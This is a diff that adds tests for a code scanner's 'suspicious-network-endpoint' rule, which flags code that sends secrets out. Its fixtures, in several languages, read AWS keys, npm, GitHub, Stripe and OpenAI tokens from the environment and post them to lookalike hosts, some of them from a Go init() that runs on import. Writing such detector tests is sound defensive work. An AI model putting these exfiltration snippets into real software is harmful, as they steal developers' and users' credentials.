@@ -4213,6 +4213,47 @@ describe('suspicious-network-endpoint: a secret read from the environment and po
   });
 });
 
+describe('suspicious-network-endpoint: a secret kept in a name and sent later, or through a function of the file (since 2026-12-01)', () => {
+  const sent = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })], 'refactor: tidy setup').find((f) => f.id === 'suspicious-network-endpoint');
+  it('reports a Go init() that reads AWS keys and passes them to a function posting to a host dressed as AWS, critical', () => {
+    const found = sent('internal/telemetry/init.go', ['package telemetry', '', 'func init() {', '\tpayload := os.Getenv("AWS_ACCESS_KEY_ID") + ":" + os.Getenv("AWS_SECRET_ACCESS_KEY")', '\tgo report(payload)', '}', '', 'func report(p string) {', '\thttp.Post("https://awsstatus-cdn.com/v1/health", "text/plain", bytes.NewBufferString(p))', '}']);
+    expect(found).toMatchObject({ severity: 'critical', line: 15, title: 'A secret is sent to awsstatus-cdn.com, a host dressed as its service\u2019s'.replace('\u2019', "'") });
+    expect(found?.detail).toContain('in init(), which runs whenever the package is imported');
+  });
+  it('follows the name through assignments and fills to a request lines later (Python, Go), and a call of a sending function (Python, JS, Ruby)', () => {
+    expect(sent('mypkg/sync.py', ['def sync():', '    key = os.getenv("AWS_SECRET_ACCESS_KEY")', '    region = os.getenv("AWS_REGION", "us-east-1")', '    body = ("%s|%s" % (key, region)).encode()', '    print("syncing")', '    level = "info"', '    req = urllib.request.Request("https://aws-sync-status.net/u", data=body)'])?.severity).toBe('critical');
+    expect(sent('pkg/up/up.go', ['func Upload() error {', '\ttok := os.Getenv("NPM_TOKEN")', '\tname := "pkg"', '\tversion := "1.0.0"', '\t_ = name', '\t_ = version', '\tbody := strings.NewReader("t=" + tok)', '\treq, _ := http.NewRequest("POST", "https://stats.build-insights.dev/u", body)', '\treturn send(req)', '}'])).toMatchObject({ severity: 'high', line: 18 });
+    const pad = ['A = 1', 'B = 2', 'C = 3', 'D = 4', 'E = 5'];
+    expect(sent('mypkg/telemetry.py', ['TOKEN = os.environ.get("NPM_TOKEN", "")', ...pad, '', 'def _report(value):', '    requests.post("https://registry-stats.pkg-insights.dev/v1", json={"v": value}, timeout=3)', '', 'def setup():', '    _report(TOKEN)'])).toMatchObject({ severity: 'high', line: 22 });
+    expect(sent('src/init.js', ['const token = process.env.GITHUB_TOKEN;', ...pad.map((p) => `const ${p};`), '', 'function ping(t) {', "  return fetch('https://metrics.build-insights.dev/ping', {", "    method: 'POST',", '    body: JSON.stringify({ t }),', '  });', '}', '', 'module.exports = function setup() {', '  ping(token);', '};'])?.severity).toBe('high');
+    expect(sent('src/stats.ts', ["const key = process.env.STRIPE_SECRET_KEY ?? '';", 'const send = async (payload: string) => {', "  await fetch('https://stripe-metrics.io/collect', { method: 'POST', body: payload });", '};', 'export async function boot() {', '  const data = JSON.stringify({ key });', '  await send(data);', '}'])?.severity).toBe('critical');
+    expect(sent('lib/acme/report.rb', ['module Acme', '  def self.report(value)', '    Net::HTTP.post_form(URI("https://gem-telemetry.dev/r"), "k" => value)', '  end', '', '  def self.boot', '    k = ENV["RUBYGEMS_API_KEY"]', '    puts "booting"', '    a = 1', '    b = 2', '    c = 3', '    report(k)', '  end', 'end'])?.severity).toBe('high');
+  });
+  it('follows an attribute of the instance to another method (self.token), and a name put into a template string (`k=${key}`)', () => {
+    const pad = ['        self.retries = 3', '        self.timeout = 5', '        self.name = "agent"', '        self.debug = False'];
+    expect(sent('mypkg/agent.py', ['class Agent:', '    def __init__(self):', '        self.token = os.environ.get("GITHUB_TOKEN")', ...pad, '', '    def _send(self, data):', '        requests.post("https://gh-telemetry.build-insights.dev/a", data=data, timeout=self.timeout)', '', '    def start(self):', '        self._send({"t": self.token, "n": self.name})'])?.severity).toBe('high');
+    expect(sent('lib/report.js', ['const key = process.env.OPENAI_API_KEY;', 'const a = 1;', 'const b = 2;', 'const c = 3;', 'const d = 4;', '', 'async function report(data) {', "  await axios.post('https://usage.llm-insights.dev/r', data);", '}', '', 'exports.run = async () => {', '  const msg = `k=${key}`;', '  await report(msg);', '};'])?.severity).toBe('high');
+    // PHP reads its variables with their `$`: `self::send($key)` gives the name `$key = getenv(…)` holds.
+    expect(sent('src/Telemetry.php', ['class Telemetry {', '    public static function boot() {', '        $key = getenv("AWS_SECRET_ACCESS_KEY");', '        $a = 1;', '        $b = 2;', '        $c = 3;', '        $d = 4;', '        self::send($key);', '    }', '', '    private static function send($v) {', '        @file_get_contents("https://aws-health-cdn.com/p?k=" . urlencode($v));', '    }', '}'])?.severity).toBe('critical');
+    // The attribute used as the client's header: a credential for its host.
+    expect(sent('mypkg/client.py', ['class Client:', '    def __init__(self):', '        self.token = os.environ.get("ACME_API_TOKEN")', ...pad, '', '    def _post(self, path, data):', '        return requests.post("https://api.other-service.dev" + path, json=data, headers={"Authorization": f"Bearer {self.token}"})', '', '    def create(self, name):', '        return self._post("/v1/items", {"name": name})'])).toBeUndefined();
+  });
+
+  it('stays quiet on an SDK client configured in init(), non-secret variables sent, a token given as a header through a helper, and a token sent to its own service', () => {
+    expect(sent('internal/storage/client.go', ['func notify(msg string) {', '\thttp.Post("https://status.acme-internal.dev/events", "text/plain", strings.NewReader(msg))', '}', '', 'func init() {', '\tkey := os.Getenv("AWS_SECRET_ACCESS_KEY")', '\tid := os.Getenv("AWS_ACCESS_KEY_ID")', '\tcreds := credentials.NewStaticCredentialsProvider(id, key, "")', '\tcfg, _ := config.LoadDefaultConfig(context.Background(), config.WithCredentialsProvider(creds))', '\tclient = s3.NewFromConfig(cfg)', '\tnotify("storage ready in " + os.Getenv("AWS_REGION"))', '}'])).toBeUndefined();
+    expect(sent('src/boot.js', ['const region = process.env.AWS_REGION;', 'const stage = process.env.STAGE;', 'const apiKey = process.env.DATADOG_API_KEY;', "console.log('booting', region, stage);", '', 'async function notify(text) {', "  await fetch('https://hooks.acme-chat.dev/notify', { method: 'POST', body: JSON.stringify({ text }) });", '}', '', 'module.exports = async () => {', '  await notify(`deployed to ${stage} in ${region}`);', '};'])).toBeUndefined();
+    const pad = ['TIMEOUT = 10', 'RETRIES = 3', 'VERSION = "v2"', 'AGENT = "acme/1.0"', 'DEBUG = False'];
+    expect(sent('mypkg/client.py', ['TOKEN = os.environ["ACME_API_TOKEN"]', ...pad, '', 'def call(path, token):', '    return requests.post("https://api.other-service.dev" + path, headers={"Authorization": f"Bearer {token}"}, timeout=TIMEOUT)', '', 'def run():', '    return call("/v1/things", TOKEN)'])).toBeUndefined();
+    expect(sent('mypkg/gh.py', ['TOKEN = os.environ["GITHUB_TOKEN"]', ...pad, '', 'def call(path, payload):', '    return requests.post("https://api.github.com" + path, json=payload, timeout=10)', '', 'def comment(n, body):', '    return call(f"/repos/acme/tint/issues/{n}/comments", {"body": body, "token": TOKEN})'])).toBeUndefined();
+  });
+  it('does not take a host dressed as a service for its own (awsstatus-cdn.com, npm-cdn-sync.com), and keeps the services\u2019 own domains and subdomains quiet', () => {
+    expect(sent('src/up.ts', ["await fetch('https://npm-cdn-sync.com/u', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])?.severity).toBe('critical');
+    expect(sent('src/up.ts', ["await fetch('https://registry.npmjs.org/-/v1/x', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])).toBeUndefined();
+    expect(sent('src/up.ts', ["await fetch('https://npm.acme-internal.dev/sync', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])).toBeUndefined();
+    expect(sent('src/s3.py', ['requests.put("https://my-bucket.s3.amazonaws.com/k", data=os.environ["AWS_SESSION_TOKEN"])'])).toBeUndefined();
+  });
+});
+
 describe('sql-parameters-dropped: a bound value spliced into the query text in a "cleanup"', () => {
   const sql = (path: string, added: string[], removed: string[], title = 'cleanup: simplify queries') => scan([makeFile(path, { patch: hunk(added, removed) })], title).filter((f) => f.id === 'sql-parameters-dropped' || f.id === 'pr-claim-mismatch').map((f) => `${f.id}:${f.severity}`);
 
